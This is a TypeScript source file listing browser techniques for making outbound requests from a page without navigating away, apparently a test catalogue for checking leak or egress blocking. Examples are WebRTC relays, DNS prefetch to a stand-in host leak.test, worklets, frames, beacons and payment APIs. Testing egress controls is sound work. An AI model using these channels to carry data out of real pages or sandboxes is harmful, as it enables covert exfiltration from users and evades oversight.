// Ways out that exist only in pages, and that do not navigate the page away.

import type { Channel } from './channel.ts';

/** Calls between browsers. They send no path, so an arrival at a separate port shows the leak. */
const calls: Channel[] = [
  {
    name: 'call by a STUN server',
    seenAs: 'port',
    run: async (url) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'call by a relay',
    seenAs: 'port',
    run: async (url) => {
      const relay = { urls: `turn:${new URL(url).host}`, username: url, credential: url };
      const peer = new RTCPeerConnection({ iceServers: [relay], iceTransportPolicy: 'relay' });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'call by a relay over TCP',
    seenAs: 'port',
    run: async (url) => {
      const relay = { urls: `turn:${new URL(url).host}?transport=tcp`, username: url, credential: url };
      const peer = new RTCPeerConnection({ iceServers: [relay], iceTransportPolicy: 'relay' });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'call to a peer',
    seenAs: 'port',
    run: async (url) => {
      const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
      one.createDataChannel('leak');
      await one.setLocalDescription(await one.createOffer());
      if (one.localDescription !== null) await other.setRemoteDescription(one.localDescription);
      const answer = await other.createAnswer();
      await one.setRemoteDescription(answer);
      const candidate = `candidate:1 1 udp 2122260223 127.0.0.1 ${new URL(url).port} typ host`;
      await one.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
    },
  },
];

/** Resource hints, with which a page asks the browser to prepare a connection or a file. */
const hints: Channel[] = [
  {
    name: 'preconnect',
    seenAs: 'port',
    run: (url) => {
      document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: url }));
    },
  },
  {
    name: 'dns hint',
    seenAs: 'dns',
    run: (url) => {
      const name = new URL(url).pathname.slice(1).replace(/[^a-z0-9]/gi, '-');
      const href = `http://${name}.leak.test/`;
      document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href }));
    },
  },
  {
    name: 'rules for prefetching',
    run: (url) => {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] });
      document.head.append(rules);
    },
  },
  {
    name: 'rules for prerendering',
    run: (url) => {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({ prerender: [{ urls: [url], eagerness: 'immediate' }] });
      document.head.append(rules);
    },
  },
];

const scripts: Channel[] = [
  {
    name: 'script',
    run: (url) => {
      document.head.append(Object.assign(document.createElement('script'), { src: `${url}.js` }));
    },
  },
  {
    name: 'module',
    run: (url) => {
      document.head.append(
        Object.assign(document.createElement('script'), { type: 'module', src: `${url}.js` }),
      );
    },
  },
  {
    name: 'script in markup',
    run: (url) => {
      document.head.append(Object.assign(document.createElement('script'), { text: `fetch('${url}')` }));
    },
  },
  {
    name: 'script in svg',
    run: (url) => {
      const space = 'http://www.w3.org/2000/svg';
      const script = document.createElementNS(space, 'script');
      script.setAttribute('href', `${url}.js`);
      document.body.appendChild(document.createElementNS(space, 'svg')).append(script);
    },
  },
  {
    name: 'import map',
    run: (url) => {
      const text = JSON.stringify({ imports: { leak: `${url}.js` } });
      document.head.append(Object.assign(document.createElement('script'), { type: 'importmap', text }));
      return import(/* @vite-ignore */ ['leak'].join(''));
    },
  },
  {
    name: 'shared worker',
    run: (url) => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${url}')`]))),
  },
  {
    name: 'audio worklet',
    run: (url) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${url}.js`),
  },
  {
    name: 'paint worklet',
    run: (url) => {
      const { paintWorklet } = CSS as unknown as { paintWorklet: { addModule: (url: string) => unknown } };
      return paintWorklet.addModule(`${url}.js`);
    },
  },
];

const frames: Channel[] = [
  {
    name: 'fetch of an empty frame',
    run: (url) => document.body.appendChild(document.createElement('iframe')).contentWindow?.fetch(url),
  },
  {
    name: 'written into an empty frame',
    run: (url) => {
      const inside = document.body.appendChild(document.createElement('iframe')).contentDocument;
      if (inside !== null) inside.body.innerHTML = `<img src="${url}">`;
    },
  },
  {
    name: 'frame sent elsewhere',
    run: (url) => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      if (frame.contentWindow !== null) frame.contentWindow.location.href = url;
    },
  },
  {
    name: 'frame from a blob',
    run: (url) => {
      const html = new Blob([`<img src="${url}">`], { type: 'text/html' });
      document.body.appendChild(document.createElement('iframe')).src = URL.createObjectURL(html);
    },
  },
  {
    name: 'style of an XML document',
    run: (url) => {
      const xml = `<?xml-stylesheet type="text/css" href="${url}.css"?><leak/>`;
      const file = new Blob([xml], { type: 'application/xml' });
      document.body.appendChild(document.createElement('iframe')).src = URL.createObjectURL(file);
    },
  },
  {
    name: 'form into a frame',
    run: (url) => {
      const frame = Object.assign(document.createElement('iframe'), { name: 'target' });
      const form = document.createElement('form');
      Object.assign(form, { action: url, method: 'post', target: 'target' });
      document.body.append(frame, form);
      form.submit();
    },
  },
  { name: 'window', run: (url) => window.open(url) },
  { name: 'fetch of an empty window', run: (url) => window.open('about:blank')?.fetch(url) },
  {
    name: 'form to a new window',
    run: (url) => {
      const form = document.body.appendChild(document.createElement('form'));
      Object.assign(form, { action: url, target: '_blank' });
      form.submit();
    },
  },
  {
    name: 'link to a new window',
    run: (url) => {
      const link = document.body.appendChild(document.createElement('a'));
      Object.assign(link, { href: url, target: '_blank' });
      link.click();
    },
  },
];

const styles: Channel[] = [
  {
    name: 'constructed style sheet',
    run: (url) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${url}) }`);
      document.adoptedStyleSheets.push(sheet);
    },
  },
  {
    name: 'animation',
    run: (url) => {
      const moved = document.body.appendChild(document.createElement('p'));
      moved.animate({ backgroundImage: [`url(${url})`, `url(${url})`] }, 9000);
    },
  },
  {
    name: 'filter of a canvas',
    run: (url) => {
      const canvas = document.body.appendChild(document.createElement('canvas')).getContext('2d');
      if (canvas === null) return;
      canvas.filter = `url(${url}#f)`;
      canvas.fillRect(0, 0, 9, 9);
    },
  },
];

const others: Channel[] = [
  { name: 'beacon', run: (url) => navigator.sendBeacon(url, url) },
  {
    name: 'beacon that asks first',
    run: (url) => navigator.sendBeacon(url, new Blob([url], { type: 'application/json' })),
  },
  {
    name: 'fetch for later',
    run: (url) => {
      const { fetchLater } = globalThis as unknown as { fetchLater: (url: string, options: object) => void };
      fetchLater(url, { activateAfter: 0 });
    },
  },
  { name: 'image object', run: (url) => (new Image().src = url) },
  {
    name: 'playlist of a video',
    run: (url) => {
      const list = `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${url}\n#EXT-X-ENDLIST\n`;
      const video = document.body.appendChild(document.createElement('video'));
      video.src = URL.createObjectURL(new Blob([list], { type: 'application/vnd.apple.mpegurl' }));
    },
  },
  {
    name: 'ping of a link',
    run: (url) => {
      const link = document.body.appendChild(document.createElement('a'));
      Object.assign(link, { href: '#here', ping: url });
      link.click();
    },
  },
  { name: 'notification', run: (url) => new Notification('leak', { icon: url }) },
  {
    name: 'payment',
    run: (url) => {
      const total = { label: 'leak', amount: { currency: 'EUR', value: '1' } };
      return new PaymentRequest([{ supportedMethods: url }], { total }).canMakePayment();
    },
  },
  {
    name: 'identity',
    run: (url) =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: url, clientId: 'leak' }] },
      } as CredentialRequestOptions),
  },
];

export const PAGE_CHANNELS: readonly Channel[] = [
  ...calls,
  ...hints,
  ...scripts,
  ...frames,
  ...styles,
  ...others,
];
